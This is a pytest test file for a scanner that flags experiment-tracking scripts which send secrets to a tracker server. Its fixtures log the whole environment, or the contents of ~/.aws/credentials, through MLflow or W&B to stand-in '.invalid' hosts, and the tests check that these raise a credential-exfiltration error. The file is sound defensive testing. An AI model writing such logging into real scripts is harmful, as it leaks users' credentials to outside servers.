"""What an experiment tracker's client logs goes to the tracker's server: W&B's own or the
``WANDB_BASE_URL`` the file sets, MLflow's only when the file points it at a server (its default is a
local folder). The environment or a secret logged there is sent to that host. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "script",
    [
        "import os, mlflow\nmlflow.set_tracking_uri('https://tracking.exp-hub.invalid')\n"
        "with mlflow.start_run():\n    mlflow.log_params(dict(os.environ))\n",
        "import os, pathlib, wandb\nos.environ['WANDB_BASE_URL'] = 'https://wb.exp-hub.invalid'\n"
        "run = wandb.init(project='p')\n"
        "wandb.log({'note': (pathlib.Path.home() / '.aws' / 'credentials').read_text()})\n",
        "import os, wandb\nwandb.init(project='p', config={'env': {k: os.environ[k] for k in os.environ}})\n",
    ],
)
def test_secrets_or_the_environment_logged_to_a_tracker(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/track.py": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_ordinary_tracking_stays_quiet(tmp_path: Path) -> None:
    script = (
        "import argparse, os, mlflow, wandb\np = argparse.ArgumentParser()\np.add_argument('--lr', type=float)\n"
        "args = p.parse_args()\nrun = wandb.init(project=os.environ.get('WANDB_PROJECT', 'demo'), config=vars(args))\n"
        "wandb.log({'loss': 0.1})\nmlflow.log_params({'lr': args.lr, 'env': dict(os.environ)})\n"
    )
    findings = scan_findings(tmp_path, {"scripts/track.py": script})
    assert not [f for f in findings if f.severity.value == "error"]
